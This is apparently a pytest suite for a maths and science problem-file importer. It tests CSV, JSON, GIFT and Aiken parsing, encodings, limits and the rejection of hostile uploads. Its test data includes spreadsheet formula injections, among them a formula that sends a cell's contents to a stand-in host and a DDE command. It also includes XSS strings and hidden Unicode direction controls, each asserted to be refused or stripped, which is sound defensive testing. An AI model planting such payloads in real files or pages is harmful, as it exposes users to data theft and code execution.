"""The five formats read exactly: every example file imports as written, every planted error is
reported at its line and field, and the parsers' finer points (GIFT escapes and ranges, Aiken
leniency, CSV dialects, JSON line numbers and LaTeX backslashes) hold."""

from pathlib import Path

import pytest

from webapp.problems.importers import UploadRefused, detect_format, read_problem_file

EXAMPLES = Path(__file__).resolve().parents[3] / "docs" / "examples"
LIMITS = {"max_bytes": 5 * 1024 * 1024, "max_items": 1000}


def read(name: str, **options):
    path = EXAMPLES / name
    return read_problem_file(path.read_bytes(), filename=path.name, **LIMITS, **options)


def read_text(text: str, filename: str, **options):
    return read_problem_file(text.encode("utf-8"), filename=filename, **LIMITS, **options)


def summary(item) -> tuple:
    data = item.data
    return (
        item.line,
        data["answer_kind"],
        data["reference_answer"],
        data["unit"],
        tuple(data["choices"]),
    )


# --- good files import exactly -----------------------------------------------------------------


def test_csv_example_imports_exactly():
    read_file = read("problems.csv")
    assert read_file.format == "csv"
    assert read_file.file_warnings == []
    assert all(not item.errors and not item.warnings for item in read_file.items)
    assert [summary(item) for item in read_file.items] == [
        (2, "expression", "11/12", "", ()),
        (3, "expression", "8", "", ()),
        (4, "expression", "x^2+4x+4", "", ()),
        (5, "number", "60", "km/h", ()),
        (6, "number", "19.62", "N", ()),
        (7, "choice", "C", "", ("21", "27", "29", "33")),
        (8, "choice", "C", "", ("S", "So", "Na", "N")),  # the answer "Na" is choice C
        (9, "number", "12", "", ()),  # no answer type: a plain number is a number
    ]
    first = read_file.items[0].data
    assert first["statement"] == r"Compute $\frac{3}{4} + \frac{1}{6}$."
    assert first["solution"].startswith("Use the common denominator 12")
    assert first["difficulty"] == 2 and first["tags"] == ["fractions"]
    assert read_file.items[1].data["tags"] == ["equations", "linear"]
    assert read_file.items[3].data["domain"] == "science"
    # "1%" is relative; "0.05" is a margin in newtons, stored relative to 19.62 N.
    assert read_file.items[3].data["tolerance"] == pytest.approx(0.01)
    assert read_file.items[4].data["tolerance"] == pytest.approx(0.05 / 19.62)


def test_json_example_imports_exactly_with_set_metadata():
    read_file = read("problems.json")
    assert (read_file.format, read_file.title) == ("json", "Fractions and motion")
    assert read_file.description == "A short mixed set: every answer type once."
    assert all(not item.errors and not item.warnings for item in read_file.items)
    assert [summary(item) for item in read_file.items] == [
        (5, "expression", "3/2", "", ()),
        (14, "expression", "(x-3)(x+3)", "", ()),
        (21, "number", "44.1", "m", ()),
        (30, "choice", "C", "", ("Mass", "Temperature", "Velocity", "Energy")),
        (38, "number", "36", "", ()),
    ]
    assert read_file.items[0].data["statement"] == r"Compute $\frac{2}{3} \cdot \frac{9}{4}$."
    assert read_file.items[1].data["difficulty"] == 3  # "medium"
    assert read_file.items[2].data["tolerance"] == pytest.approx(0.02)


def test_jsonl_example_imports_exactly():
    read_file = read("problems.jsonl")
    assert read_file.format == "jsonl"
    assert all(not item.errors and not item.warnings for item in read_file.items)
    assert [summary(item) for item in read_file.items] == [
        (1, "number", "24", "", ()),
        (2, "expression", "12", "", ()),
        (3, "number", "150", "s", ()),
        (4, "choice", "B", "", ("0.5", "3/5", "0.55")),
        (5, "expression", "3x^2", "", ()),
    ]
    assert read_file.items[1].data["statement"] == r"Solve $\frac{x}{4} = 3$."


def test_gift_example_imports_exactly():
    read_file = read("problems.gift", default_domain="science")
    assert read_file.format == "gift"
    # The one warning: "…, in metres?" with the key 1020 is checked as 1020 m, and said so.
    assert [
        (item.line, [w.field for w in item.warnings]) for item in read_file.items if item.warnings
    ] == [(18, ["unit"])]
    assert all(not item.errors for item in read_file.items)
    assert [summary(item) for item in read_file.items] == [
        (5, "number", "5", "", ()),
        (7, "expression", "5/6", "", ()),
        (9, "choice", "B", "", ("3", "9", "27", "81")),
        (18, "number", "1020", "m", ()),
        (20, "choice", "A", "", ("True", "False")),
        (22, "number", "19.5", "", ()),  # the range 19..20
        (24, "choice", "A", "", ("newton", "joule", "watt")),
    ]
    items = read_file.items
    assert items[1].data["statement"] == r"Compute $\frac{1}{2} + \frac{1}{3}$."
    assert items[1].data["solution"].startswith("Common denominator 6")
    assert items[3].data["tolerance"] == pytest.approx(10 / 1020)
    assert items[5].data["tolerance"] == pytest.approx(0.5 / 19.5)
    assert items[6].data["statement"] == "The unit of force is the _____."
    assert [item.data["tags"] for item in items] == [["Algebra"]] * 3 + [["Physics"]] * 4
    assert {item.data["domain"] for item in items} == {"science"}


def test_aiken_example_imports_exactly():
    read_file = read("problems-aiken.txt")
    assert read_file.format == "aiken"  # recognised from the content of a .txt file
    assert all(not item.errors and not item.warnings for item in read_file.items)
    assert [summary(item) for item in read_file.items] == [
        (1, "choice", "B", "", ("54", "56", "64", "48")),
        (8, "choice", "C", "", ("Oxygen", "Nitrogen", "Argon", "Hydrogen")),
        (15, "choice", "C", "", ("512", "1000", "1024", "2048")),
        (22, "choice", "B", "", ("Venus", "Mercury", "Mars")),
    ]
    assert read_file.items[0].data["statement"] == "What is 7 × 8?"


# --- planted errors are reported at their line and field ------------------------------------


def errors_by_line(read_file) -> dict[int, set[str]]:
    return {
        item.line: {issue.field for issue in item.errors} for item in read_file.items if item.errors
    }


def test_csv_planted_errors():
    read_file = read("with-errors/problems.csv")
    assert errors_by_line(read_file) == {
        3: {"statement"},
        4: {"answer"},
        5: {"answer"},
        7: {"tolerance"},
        8: {"difficulty"},
    }
    items = {item.line: item for item in read_file.items}
    assert "forty-two" in items[4].errors[0].message
    assert "only choices A–C" in items[5].errors[0].message
    # An answer the verifier cannot parse is imported, flagged, and said so.
    assert items[11].data["reference_error"]
    assert items[11].warnings[0].field == "answer"
    assert "not for training" in items[11].warnings[0].message
    # A text answer matching a choice picks its letter; "mc" is a multiple-choice alias.
    assert (items[10].data["answer_kind"], items[10].data["reference_answer"]) == ("choice", "B")


def test_json_planted_errors():
    read_file = read("with-errors/problems.json")
    assert errors_by_line(read_file) == {
        3: {"difficulty"},
        4: {"choices"},
        5: {"domain"},
        6: {""},
        7: {"statement"},
    }
    latex = next(item for item in read_file.items if item.line == 7)
    assert "backslash twice" in latex.errors[0].message


def test_jsonl_planted_errors():
    read_file = read("with-errors/problems.jsonl")
    assert errors_by_line(read_file) == {3: {""}, 4: {"tolerance"}, 5: {"statement"}}
    broken = next(item for item in read_file.items if item.line == 3)
    assert "not valid JSON" in broken.errors[0].message


def test_gift_planted_errors():
    read_file = read("with-errors/problems.gift")
    assert errors_by_line(read_file) == {
        4: {"answer"},
        6: {"answer"},
        8: {"answer"},
        10: {"answer"},
    }
    messages = {item.line: item.errors[0].message for item in read_file.items if item.errors}
    assert "no right answer" in messages[4]
    assert "“three” is not a number" in messages[6]
    assert "matching questions" in messages[8]
    assert "more than one answer" in messages[10]


def test_aiken_planted_errors():
    read_file = read("with-errors/problems-aiken.txt")
    assert errors_by_line(read_file) == {7: {"answer"}, 12: {"answer"}, 16: {"choices"}}
    messages = {item.line: item.errors[0].message for item in read_file.items if item.errors}
    assert messages[7].startswith("Line 10:") and "ANSWER: D" in messages[7]
    assert "No “ANSWER: X” line" in messages[12]
    assert messages[16].startswith("Line 18:")
    # A lower-case key is accepted (Moodle would refuse the whole file).
    assert read_file.items[-1].data["reference_answer"] == "B"


# --- format details ----------------------------------------------------------------------------


def test_csv_semicolons_aliases_and_option_columns():
    text = "Question;Answer;Option A;Option B;Option C\nWhich is even?;B;3;4;5\n"
    read_file = read_text(text, "export.csv")
    item = read_file.items[0]
    assert not item.errors
    assert (item.data["answer_kind"], item.data["choices"]) == ("choice", ["3", "4", "5"])
    assert any("semicolons" in warning for warning in read_file.file_warnings)


def test_csv_multiline_statement_keeps_the_starting_line():
    text = 'statement,answer\n"First line\nsecond line",1\nNext,2\n'
    items = read_text(text, "a.csv").items
    assert [item.line for item in items] == [2, 4]
    assert items[0].data["statement"] == "First line\nsecond line"


def test_csv_without_a_statement_column_is_refused():
    with pytest.raises(UploadRefused, match="statement"):
        read_text("foo,bar\n1,2\n", "a.csv")


def test_csv_unclosed_quote_costs_its_own_row_only():
    text = (
        "statement,answer\n"
        "What is 1+1?,2\n"
        '"never closed,2\n'
        "What is 2+2?,4\n"
        '"A quoted, multi-line\nstatement",5\n'
        'Another "broken,6\n'
        "What is 3+3?,6\n"
    )
    items = read_text(text, "a.csv").items
    assert [(item.line, bool(item.errors)) for item in items] == [
        (2, False),
        (3, True),
        (4, False),
        (5, False),
        (7, True),
        (8, False),
    ]
    assert "never closed" in items[1].errors[0].message
    assert items[3].data["statement"] == "A quoted, multi-line\nstatement"
    assert [item.data["reference_answer"] for item in items if not item.errors] == [
        "2",
        "4",
        "5",
        "6",
    ]


def test_csv_every_broken_row_is_reported_in_one_read():
    text = "statement,answer\n" + "".join(f'"broken {i},{i}\nfine {i},{i}\n' for i in range(3))
    items = read_text(text, "a.csv").items
    assert [item.line for item in items if item.errors] == [2, 4, 6]
    assert len([item for item in items if not item.errors]) == 3


def test_a_domain_the_site_does_not_have_is_warned_about():
    items = read_text("statement,answer,domain\nHow many legs has a spider?,8,biology\n", "a.csv")
    item = items.items[0]
    assert item.data["domain"] == "science" and "biology" in item.data["tags"]
    assert any("biology" in w.message and "science" in w.message for w in item.warnings)


def test_a_number_key_without_a_unit_takes_the_unit_the_statement_asks_for():
    text = (
        "statement,answer\n"
        "A car travels 45 m/s for 3 s. How far does it go in metres?,135\n"
        "How many apples are left?,7\n"
    )
    asked, plain = read_text(text, "a.csv").items
    assert asked.data["unit"] == "m"
    assert any(w.field == "unit" and "135 m" in w.message for w in asked.warnings)
    assert plain.data["unit"] == "" and not plain.warnings


def test_csv_row_with_too_many_values_names_the_line():
    items = read_text("statement,answer\nWhat is 1,000 + 1?,1001\n", "a.csv").items
    assert "double quotes" in items[0].errors[0].message


def test_gift_escapes_numeric_alternatives_and_essay():
    text = (
        "::esc:: Is 2 \\= 2 \\{really\\}? {T}\n\n"
        "::alts:: Pi? {#=3.14:0.01 =%50%3:0.5}\n\n"
        "::essay:: Explain why. {}\n"
    )
    items = read_text(text, "a.gift").items
    assert items[0].data["statement"] == "Is 2 = 2 {really}?"
    assert (items[1].data["reference_answer"], items[1].data["tolerance"]) == (
        "3.14",
        pytest.approx(0.01 / 3.14),
    )
    assert items[2].data["answer_kind"] == "none" and not items[2].errors
    assert "No reference answer" in items[2].warnings[0].message


def test_gift_blank_line_inside_an_answer_does_not_split_the_question():
    items = read_text("Which? {\n~a\n\n=b\n}\n", "a.gift").items
    assert len(items) == 1 and items[0].data["reference_answer"] == "B"


def test_detect_format_from_content():
    assert detect_format("x", "[{}]") == "json"
    assert detect_format("x", '{"a": 1}\n{"a": 2}\n') == "jsonl"
    assert detect_format("x", "Q?\nA. 1\nB. 2\nANSWER: A\n") == "aiken"
    assert detect_format("x", "Q? {=1}\n") == "gift"
    assert detect_format("pasted text", "statement,answer\nQ,1\n") == "csv"
    assert detect_format("x", "just words") is None


def test_unknown_format_is_refused_clearly():
    with pytest.raises(UploadRefused, match="cannot tell which format"):
        read_text("just words", "notes")


# --- encodings and hostile files ----------------------------------------------------------------


@pytest.mark.parametrize(
    "data,encoding",
    [
        ("statement,answer\nCafé costs?,5\n".encode(), "UTF-8"),
        (b"\xef\xbb\xbf" + "statement,answer\nCafé costs?,5\n".encode(), "UTF-8 with BOM"),
        ("statement,answer\nCafé costs?,5\n".encode("cp1252"), "Windows-1252"),
        ("statement,answer\nCafé costs?,5\n".encode("utf-16"), "UTF-16"),
        ("statement,answer\r\nCafé costs?,5\r\n".encode(), "UTF-8"),
    ],
)
def test_encodings(data, encoding):
    read_file = read_problem_file(data, filename="a.csv", **LIMITS)
    assert read_file.encoding == encoding
    assert read_file.items[0].data["statement"] == "Café costs?"


@pytest.mark.parametrize(
    "data,reason",
    [
        (b"PK\x03\x04" + b"\x00" * 100, "ZIP archive"),
        (b"%PDF-1.7\n", "PDF"),
        (b"\x89PNG\r\n\x1a\n", "PNG"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1", "old Microsoft Office"),
        (b"statement,answer\nok,1\x00\x01\x02", "NUL bytes"),
        (b"statement,answer\nbell\x07,1\n", "control character"),
        (b"statement,answer\n\x81\x8d\x8f\x90,1\n", "neither UTF-8 nor Windows-1252"),
        (b"   \n\n", "empty"),
        (b"[" * 200_000, "nested too deeply"),
        (b'{"problems": [{"statement": [[[[[["x"]]]]]]}]}', "levels deep"),
        (b"x" * (LIMITS["max_bytes"] + 1), "the limit is"),
    ],
)
def test_broken_and_hostile_files_are_refused(data, reason):
    with pytest.raises(UploadRefused, match=reason):
        read_problem_file(data, filename="upload.json", **LIMITS)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example","click")',
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        '+IMPORTXML(CONCAT("http://x/?",A1),"//a")',
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[click](javascript:alert(1))",
        '<a href="#" onclick="steal()">x</a>',
    ],
)
def test_formula_and_script_content_refuses_the_whole_file(cell):
    text = f'statement,answer\nFine problem,1\n"{cell.replace(chr(34), chr(34) * 2)}",2\n'
    with pytest.raises(UploadRefused) as refused:
        read_text(text, "a.csv")
    assert refused.value.details[0].startswith("Line 3, statement")


@pytest.mark.parametrize("answer", ["-3", "-sin(x)", "+5", "x < 3 and y > 2"])
def test_ordinary_maths_is_not_mistaken_for_a_formula_or_html(answer):
    items = read_text(f'statement,answer\nQ,"{answer}"\n', "a.csv").items
    assert items[0].data["reference_answer"] == answer


def test_too_many_items_is_refused():
    text = "statement,answer\n" + "".join(f"Compute {n} + 1.,{n + 1}\n" for n in range(1001))
    with pytest.raises(UploadRefused, match="more than 1,000"):
        read_text(text, "a.csv")


def test_gift_questions_without_blank_lines_between_them_are_each_read():
    text = (
        "// a quiz typed without blank lines\n"
        "::Add:: What is 2+3? {#5}\n"
        "::Half:: Compute $\\frac{1}{2}$ of 10. {=5}\n"
        "Which is prime?\n{~4 =7 ~9}\n"
        "Water boils at 100 C at sea level.{TRUE}\n"
    )
    items = read_text(text, "quiz.gift").items
    assert [
        (item.line, item.data["answer_kind"], item.data["reference_answer"]) for item in items
    ] == [
        (2, "number", "5"),
        (3, "number", "5"),  # a short answer that is a number
        (4, "choice", "B"),
        (6, "choice", "A"),
    ]
    assert all(not item.errors for item in items)
    assert not items[0].warnings
    assert all("blank line" in item.warnings[0].message for item in items[1:])


# --- audit: inputs that reached a server error ---------------------------------------------------


@pytest.mark.parametrize("filename", ["big.json", "big.jsonl"])
def test_a_json_number_too_long_for_python_is_an_error_of_its_item(filename):
    # Python refuses to turn more than 4,300 digits into an int (a ValueError, not a
    # JSONDecodeError): the upload page answered 500, the background reader "unexpected error".
    huge = "9" * 5000
    problems = [
        '{"statement": "What is 2 + 2?", "answer": "4"}',
        f'{{"statement": "What is big?", "answer": {huge}}}',
    ]
    text = "[" + ",\n".join(problems) + "]" if filename.endswith(".json") else "\n".join(problems)
    items = read_text(text, filename).items
    assert [item.line for item in items] == [1, 2]
    assert not items[0].errors
    assert [issue.field for issue in items[1].errors] == ["answer"]
    assert "longer than 500 characters" in items[1].errors[0].message


def test_a_json_number_beyond_floats_is_reported_like_in_csv():
    # 1e999 decoded to inf and was kept as the expression answer "inf".
    items = read_text('[{"statement": "What is big?", "answer": 1e999}]', "big.json").items
    assert [issue.message for issue in items[0].errors] == ["“1e999” is not a finite number."]


@pytest.mark.parametrize(
    "text,filename",
    [
        ('[{"statement": "What is \\ud800?", "answer": "4"}]', "lone.json"),
        ('{"statement": "What is \\udc00?", "answer": "4"}\n', "lone.jsonl"),
        ('[{"statement": "What?", "answer": "4", "\\ud83d": 1}]', "lone-key.json"),
    ],
)
def test_a_json_escape_of_half_a_character_is_refused(text, filename):
    # A lone UTF-16 surrogate ("\ud800") decodes to a str that UTF-8 and PostgreSQL refuse: the
    # upload page answered 500. A pair ("\ud83d\ude00", an emoji) is a character and reads.
    with pytest.raises(UploadRefused, match="half of a character"):
        read_text(text, filename)
    items = read_text('[{"statement": "Smile \\ud83d\\ude00?", "answer": "4"}]', "a.json").items
    assert items[0].data["statement"] == "Smile \U0001f600?"


def test_a_csv_header_longer_than_a_cell_may_be_is_refused_clearly():
    # Guessing the delimiter read the header as one ";"-separated cell, and csv's field limit
    # (131,072 characters) raised out of the reader: a big file's read "stopped with an
    # unexpected error", and every "Try again" failed the same way.
    text = "statement,answer," + "x," * 100_000 + "\nWhat is 2 + 2?,4\n"
    items = read_text(text, "wide.csv").items
    assert [item.data["statement"] for item in items] == ["What is 2 + 2?"]
    with pytest.raises(UploadRefused, match="Line 1: the first line is not valid CSV"):
        read_text("statement," + "x" * 200_000 + "\nWhat is 2 + 2?\n", "long.csv")


def test_a_csv_with_many_unknown_columns_names_the_first_few():
    # Every unknown column was named: a header of 400,000 made a 5 MB warning, stored with the
    # upload and sent with every view of its preview.
    header = "statement,answer," + ",".join(f"col{n}" for n in range(1, 31))
    read_file = read_text(header + "\nWhat is 2 + 2?,4\n", "wide.csv")
    assert read_file.file_warnings == [
        "These columns are not Ring Tutor fields and were ignored: "
        + ", ".join(f"“col{n}”" for n in range(1, 11))
        + " and 20 more."
    ]


def test_a_json_file_with_two_problem_lists_is_refused_instead_of_dropping_one():
    # Only the first of "problems", "items" and "questions" was read: the other list's problems
    # were dropped without a word.
    text = (
        '{"title": "Mixed", "problems": [{"statement": "What is 1 + 1?", "answer": "2"}],'
        ' "questions": [{"statement": "What is 2 + 2?", "answer": "4"}]}'
    )
    with pytest.raises(UploadRefused, match="both “problems” and “questions” lists"):
        read_text(text, "mixed.json")


def test_a_second_byte_order_mark_before_the_header_is_not_part_of_it():
    # It made the first column "\ufeffstatement": "no statement column".
    data = b"\xef\xbb\xbf" + "\ufeffstatement,answer\nWhat is 2 + 2?,4\n".encode()
    items = read_problem_file(data, filename="twice.csv", **LIMITS).items
    assert [(item.data["statement"], item.errors) for item in items] == [("What is 2 + 2?", [])]


# --- direction controls ("Trojan Source") ------------------------------------------------------


@pytest.mark.parametrize(
    "filename, text",
    [
        ("p.csv", 'statement,answer\n"x = \u202e21, find x",21\n'),
        # Written as a JSON escape, not as the character: removed all the same.
        ("p.json", '[{"statement": "x = \\u202e21, find x", "answer": "21"}]'),
        ("p.jsonl", '{"statement": "x = \u202e21, find x", "answer": "21"}\n'),
        ("p.gift", "x = \u202e21, find x {=21}\n"),
        ("p.aiken", "x = \u202e21, find x\nA. 21\nB. 12\nANSWER: A\n"),
    ],
)
def test_every_format_imports_a_statement_without_its_direction_controls(filename, text):
    (item,) = read_text(text, filename).items
    assert not item.errors
    assert item.data["statement"] == "x = 21, find x"
    assert [issue.field for issue in item.warnings] == ["statement"]
    assert "(U+202E) were removed" in item.warnings[0].message


@pytest.mark.parametrize(
    "cell",
    [
        '\u202e=HYPERLINK("http://x")',
        "\u2066=cmd|' /C calc'!A0",
        "<scr\u202eipt>alert(1)</scr\u202eipt>",
    ],
)
def test_hostile_content_hidden_behind_direction_controls_is_still_refused(cell):
    """The controls are removed before the hostile checks, which would otherwise read "\u202e="
    as ordinary text and let "=HYPERLINK(" be stored whole."""
    text = f'statement,answer\nFine problem,1\n"{cell.replace(chr(34), chr(34) * 2)}",2\n'
    with pytest.raises(UploadRefused) as refused:
        read_text(text, "a.csv")
    assert refused.value.details[0].startswith("Line 3, statement")


def test_a_json_sets_title_loses_its_direction_controls_with_a_file_warning():
    text = '{"title": "\\u202eWeek 1", "problems": [{"statement": "What is 2 + 2?", "answer": 4}]}'
    read_file = read_text(text, "p.json")
    assert read_file.title == "Week 1"
    assert any("(U+202E) were removed" in warning for warning in read_file.file_warnings)


def test_choices_keep_their_text_without_the_controls():
    text = "statement,option_a,option_b,answer\nPick one,\u2067yes\u2069,no,A\n"
    (item,) = read_text(text, "p.csv").items
    assert item.data["choices"] == ["yes", "no"]
    assert [issue.field for issue in item.warnings] == ["choices"]


@pytest.mark.parametrize("statement", ["\u200b\u200b", "\u202e\u202c", "\u200e"])
def test_an_uploaded_statement_of_invisible_characters_only_is_empty(statement):
    (item,) = read_text(f"statement,answer\n{statement},4\n", "p.csv").items
    assert "The statement is empty" in item.errors[0].message
